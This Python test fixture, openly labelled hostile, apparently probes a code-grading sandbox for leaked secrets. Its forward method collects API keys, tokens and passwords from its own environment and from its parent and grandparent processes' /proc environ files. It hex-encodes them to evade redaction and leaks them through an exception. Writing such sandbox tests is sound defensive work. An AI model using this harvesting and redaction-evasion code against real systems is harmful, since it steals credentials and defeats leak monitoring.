"""Hostile fixture: looks for secrets (API keys, tokens, passwords) in os.environ, posix.environ, its own
/proc/self/environ and those of its parent (the fork server) and grandparent (the engine); raises what it found,
each value hex-encoded (as an exfiltrating candidate would: the engine redacts secrets in their own shape)."""
import os
import posix
import re

import torch.nn as nn

_SECRET = re.compile(r"KEY|TOKEN|SECRET|PASSWORD|CREDENTIAL", re.I)


def _parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _found(pairs) -> str:
    return ", ".join(sorted(f"{k}={v.encode().hex()}" for k, v in pairs if _SECRET.search(k))) or "nothing"


def _proc_environ(pid: int | str) -> str:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            raw = f.read().decode(errors="replace")
    except OSError as e:
        return f"refused ({type(e).__name__})"
    return _found(kv.split("=", 1) for kv in raw.split("\0") if "=" in kv)


class ModelNew(nn.Module):
    def forward(self, x, y):
        server = os.getppid()
        report = [f"server's /proc environ: {_proc_environ(server)}",
                  f"engine's /proc environ: {_proc_environ(_parent_of(server))}",
                  f"/proc/self/environ: {_proc_environ('self')}",
                  f"posix.environ: {_found((k.decode(), v.decode()) for k, v in posix.environ.items())}",
                  f"os.environ: {_found(os.environ.items())}"]
        raise RuntimeError("; ".join(report))
